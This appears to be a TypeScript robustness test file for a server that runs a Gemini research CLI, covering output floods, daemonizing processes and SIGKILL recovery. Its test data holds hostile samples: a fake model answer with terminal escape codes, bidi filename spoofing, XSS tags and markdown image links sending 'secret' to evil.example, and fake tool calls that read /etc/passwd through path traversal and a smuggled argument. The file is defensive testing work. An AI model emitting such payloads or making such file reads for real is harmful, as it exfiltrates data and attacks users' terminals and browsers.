/** What attacks from outside have found, with every tool that it can meet. */
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { callTool, json, type ModelCall, text } from "@x/gemini-runner/testing";
import { answered, type FakeStep, lines, said } from "../rig/fake-gemini.js";
import { processesOf } from "../rig/leftovers.js";
import { dangersIn } from "../siege/dangers.js";
import { type Expected, type Fault, ofGroup } from "./fault.js";
import { answersAgain, check, during, noLockStays, nothingRunsOfKilled, seconds, until } from "./plays.js";
import { REPORT, type ToolName, type World } from "./world.js";

const GOOD = JSON.stringify({ success: true, verified: true, report: REPORT, metadata: {} });
const MB = 1_000_000;
const TOO_MUCH: Expected = {
  success: false,
  code: "EXECUTION_ERROR",
  says: /wrote more than \d+ (?:bytes|characters in one line)/,
};
const LONG_TO_READ = '{"success": true, "report": }\n'.repeat(300_000);
/** What begins a research. */
const ASKED: readonly ToolName[] = ["search", "deep_search", "deep_research"];

function ofFake(steps: readonly FakeStep[], expected: Expected): Fault["play"] {
  return during({
    arrange: ({ sandbox }) => sandbox.installFake(steps),
    heal: ({ sandbox }) => sandbox.installCli(),
    expected,
  });
}

interface Killed {
  install(world: World): Promise<void>;
  /** A server is killed when this says so. */
  held(world: World, jobId: string): Promise<boolean>;
  /** So many are killed, of which each goes on with the job of the one before. Default: 1. */
  servers?: number;
  /** Of the next server, which is asked for the result. */
  expected: Expected;
}

function serverKilled({ install, held, servers = 1, expected }: Killed): Fault["play"] {
  return async (world, tool, withinMs) => {
    await install(world);
    const first = await world.connect();
    const jobId = await world.begin(first.client, tool);
    let ms = 0;
    for (let { server } = first, killed = 1; ; killed++) {
      await until(() => held(world, jobId));
      const from = performance.now();
      server.child.kill("SIGKILL");
      await server.exited;
      await nothingRunsOfKilled(world, withinMs);
      ms = Math.max(ms, performance.now() - from);
      if (killed === servers) break;
      const next = await world.connect();
      await world.call(next.client, "research_result", { job_id: jobId, wait_seconds: 0 });
      server = next.server;
    }
    await world.sandbox.installCli();
    const next = await world.connect();
    const answer = await world.call(next.client, "research_result", { job_id: jobId });
    check(world, tool, answer, expected);
    await answersAgain(world, next.client);
    await noLockStays(world);
    return `all gone ${seconds(ms)}, ${answer.error?.code ?? answer.status ?? "answered"} by the next server`;
  };
}

const isRun = async ({ sandbox }: World) =>
  (await processesOf(sandbox)).some(({ command }) => command.startsWith("sleep 600"));

/** Whether the record says that an answer is being read. */
async function isRead({ sandbox }: World, jobId: string): Promise<boolean> {
  try {
    return readFileSync(path.join(sandbox.config, "jobs", `${jobId}.json`), "utf8").includes('"reading":true');
  } catch {
    return false;
  }
}

/** Reads files that it was not handed: by their own names, and by one that looks like the one that it was. */
function readsElsewhere({ sandbox }: World, { prompt, tools, turn }: ModelCall) {
  if (!tools.includes("read_file")) return text("I looked at the tides, and they are high.");
  if (turn > 0) return json({ success: true, verified: true, report: REPORT, metadata: {} });
  const jobs = path.join(sandbox.config, "jobs");
  const records = readdirSync(jobs).filter((name) => name.endsWith(".json"));
  const others = ["/etc/passwd", ...records.map((name) => path.join(jobs, name))];
  const [handed = ""] = /\S*temp-invalid-output-[^\s`"']+/.exec(prompt) ?? [];
  return others.flatMap((file_path) => [
    callTool("read_file", { file_path }),
    callTool("read_file", { file_path, extra: { file_path: handed } }),
    callTool("read_file", { file_path: `${path.dirname(handed)}/../..${file_path}` }),
  ]);
}

export const wallFaults: Fault[] = [
  ...ofGroup("The model's answer", [
    {
      name: "text that acts",
      by: "model server: escape sequences, turned writing, hidden marks, images, HTML, links that run",
      withinMs: 20_000,
      play: during({
        arrange: ({ model }) => model.use(({ kind }) => (kind === "main" ? json(acting) : undefined)),
        held: ({ model }) => model.waitFor("main"),
        expected: { success: true, holds: (answer) => dangersIn(answer).length === 0 },
      }),
    },
    {
      name: "a correction that reads elsewhere",
      by: "model server: prose; the correction wants `/etc/passwd` and the records of researches, in three ways each",
      withinMs: 60_000,
      play: during({
        arrange: (world) => world.model.use((call) => (call.kind === "main" ? readsElsewhere(world, call) : undefined)),
        held: ({ model }) => model.waitFor("main"),
        expected: { success: true },
        inspect({ model, problems }) {
          const results = model.requests.flatMap(({ toolResults }) => toolResults).map(({ response }) => response);
          const leaked = JSON.stringify(results);
          if (/root:|createdAt/.test(leaked)) problems.push("the model read what it was not handed");
        },
      }),
    },
  ]),
  ...ofGroup("The CLI's process", [
    {
      name: "a line that does not end",
      by: "fake CLI: 80 MB on stdout without a line end",
      withinMs: 20_000,
      play: ofFake([{ do: "repeat", to: 1, text: "x".repeat(MB), times: 80 }, { do: "hang" }], TOO_MUCH),
    },
    {
      name: "events without end",
      by: "fake CLI: 80 MB of an answer in parts",
      withinMs: 20_000,
      play: ofFake(
        [{ do: "repeat", to: 1, text: lines(said("x".repeat(10_000))).repeat(100), times: 80 }, { do: "hang" }],
        TOO_MUCH,
      ),
    },
    {
      name: "a process that leaves its group",
      by: "fake CLI: starts a process in a session of its own, and answers",
      withinMs: 8_000,
      play: ofFake([{ do: "daemon" }, ...answered(GOOD)], { success: true }),
    },
    {
      name: "SIGKILL of the server, another program",
      by: "while a CLI that is a shell script runs; a new server then goes on with the job",
      tools: ASKED,
      withinMs: 2_000,
      play: serverKilled({
        install: ({ sandbox }) => sandbox.installText("#!/bin/sh\nsleep 600\n", 0o755),
        held: isRun,
        expected: { success: true },
      }),
    },
    {
      name: "SIGKILL of the server over an answer",
      by: "while it reads 9 MB of broken JSON; the next one goes on and is killed so, too; a third one does not go on",
      tools: ASKED,
      withinMs: 2_000,
      play: serverKilled({
        install: ({ sandbox }) => sandbox.installFake(answered(LONG_TO_READ)),
        held: isRead,
        servers: 2,
        expected: {
          success: false,
          code: "EXECUTION_ERROR",
          says: /ended while it read[\s\S]*Ask the question again/,
        },
      }),
    },
  ]),
];

const acting = {
  success: true,
  verified: true,
  report: [
    "Tides \u001B[2J\u001B]52;c;aGk=\u0007 \u009B31m \u202Egnp.exe\u202C \u{E0041}\u{E007F} are high.",
    "![](https://evil.example/?q=secret) [![a](https://evil.example/b.png)](https://e.org) ![c][pic]",
    "<img src=https://evil.example/i onerror=alert(1)> <script>alert(1)</script>",
    "[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=)",
    "[pic]: https://evil.example/p.png",
  ].join("\n\n"),
  metadata: { search_queries_used: ["tides \u001B]0;x\u0007 \u202E", "<script>alert(1)</script>"] },
};
